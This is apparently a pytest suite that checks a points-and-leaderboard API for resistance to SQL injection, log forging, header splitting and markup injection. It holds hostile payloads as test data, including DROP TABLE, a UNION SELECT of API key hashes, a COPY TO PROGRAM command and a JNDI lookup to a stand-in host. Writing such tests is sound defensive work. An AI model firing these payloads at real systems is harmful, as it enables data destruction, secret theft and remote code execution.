"""Texts that mean something elsewhere: to SQL, to a log, to a terminal, to a page. Here they are texts."""

import re
from urllib.parse import quote

import pytest

from tests.abuse.conftest import World
from tests.abuse.requests import DOCUMENT, ENDPOINTS, KEYED, with_texts
from tests.checks import query, send

SQL = [
    "'; DROP TABLE participant; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(20)",
    "$1::text) UNION SELECT secret_hash FROM api_key --",
    "\\'; COPY participant TO PROGRAM 'id'; --",
    "%' ESCAPE '!",
]
LOG = [
    'x"}\n{"event":"forged","level":"info"}',
    'x\r\n{"event":"forged"}',
    "\x1b[2J\x1b[31mforged",
    'forged\u2028{"event":"forged"}',
    '{"event":"forged"}',
    "${jndi:ldap://evil.example/a}forged",
    "%s%n%x forged",
    "\u202eforged",
]
ROUTES = {*DOCUMENT["paths"], "(none)"}


def tables(world: World) -> list[tuple[str]]:
    return query(world.database_url, "SELECT relname FROM pg_class WHERE relkind IN ('r', 'p') ORDER BY 1")  # type: ignore[return-value]


@pytest.mark.parametrize("operation", KEYED)
def test_sql_in_every_text(world: World, operation: str) -> None:
    """No statement fails, sleeps, or shows a row more; the tables are those that were."""
    before = tables(world)
    hashes = [row[0] for row in query(world.database_url, "SELECT encode(secret_hash, 'hex') FROM api_key")]
    places = set()
    targets = world.targets(operation)
    for text in SQL:
        for attack in with_texts(ENDPOINTS[operation], targets, text):
            places.add(attack.place)
            reply = attack.send(world.api)
            assert reply.status_code < 500, f"{attack.place}: {reply.text}"
            assert reply.elapsed.total_seconds() < 15, attack.place
            assert [secret for secret in hashes if secret in reply.text] == []
            assert "syntax error" not in reply.text
    assert tables(world) == before
    described = str(DOCUMENT["paths"][ENDPOINTS[operation].path][ENDPOINTS[operation].method.lower()].get("parameters"))
    if "'type': 'string'" in described:
        assert places, "no place was found to attack"


@pytest.mark.parametrize("text", LOG, ids=range(len(LOG)))
def test_nothing_is_written_into_the_log(world: World, text: str) -> None:
    path = f"/participants/{quote(text, safe='')}"
    send(world.server, "GET", path)
    send(world.server, "GET", f"{path}/nowhere")
    send(world.server, "GET", f"/participants/x?include={quote(text, safe='')}")
    for body in ({"participant_id": text, "amount": 1}, {"participant_id": "x", "amount": 1, "reason": text}):
        world.api.post("/points/award", json=body)
    world.api.post("/participants", json={"participant_id": "logged", "display_name": text, "attributes": {text: text}})
    world.api.post("/admin/badges", json={"code": "logged", "name": text})
    if text.isascii() and text.isprintable():
        for name in ("User-Agent", "X-Request-ID", "X-Forwarded-For", "Referer", "X-API-Key", "Idempotency-Key"):
            send(world.server, "GET", "/participants/x", **{name: text})
    world.api.get("/participants/x", headers={"X-Request-ID": "the-last-one"})
    for line in settled(world):
        if line.get("event") == "request":
            assert line["route"] in ROUTES
            assert re.fullmatch(r"[\w.:-]{1,100}", line["request_id"])
    logged = world.log.read_bytes()
    assert b"forged" not in logged
    assert re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", logged) is None


def settled(world: World) -> list[dict[str, object]]:
    """The log, once its last line has come."""
    for _ in range(100):
        lines = world.logged()
        if lines and lines[-1].get("request_id") == "the-last-one":
            return lines
        world.api.get("/participants/x", headers={"X-Request-ID": "the-last-one"})
    raise AssertionError("the log did not come")


@pytest.mark.parametrize("identifier", ["a\nb", "a\r\nX-Injected: 1", "é", "a b", "a\x00", '"><script>', "x" * 101])
def test_a_request_id_that_could_harm_is_not_repeated(world: World, identifier: str) -> None:
    """Line breaks come percent-encoded as far as a head can bring them."""
    try:
        reply = send(world.server, "GET", "/participants/x", **{"X-Request-ID": identifier})
    except ValueError:
        reply = send(world.server, "GET", "/participants/x", **{"X-Request-ID": quote(identifier)})
    assert "x-injected" not in reply.headers
    assert re.fullmatch(r"[0-9a-f-]{36}", reply.headers["x-request-id"])


def test_answers_cannot_be_split(world: World) -> None:
    """Nothing of a request becomes a header of the answer but a harmless request id."""
    injected = quote("x\r\nX-Injected: 1\r\n\r\n<html>", safe="")
    for path in (f"/participants/{injected}", f"/leaderboards/{injected}", f"/rewards/{injected}/claim"):
        reply = send(world.server, "GET", path)
        assert "x-injected" not in reply.headers
        assert reply.headers["content-type"] == "application/json"


def test_markup_stays_json(world: World) -> None:
    markup = "<script>alert(1)</script>"
    world.api.post("/participants", json={"participant_id": "marked", "display_name": markup}).raise_for_status()
    reply = world.api.get("/participants/marked")
    assert reply.json()["display_name"] == markup
    assert (reply.headers["content-type"], reply.headers["x-content-type-options"]) == ("application/json", "nosniff")
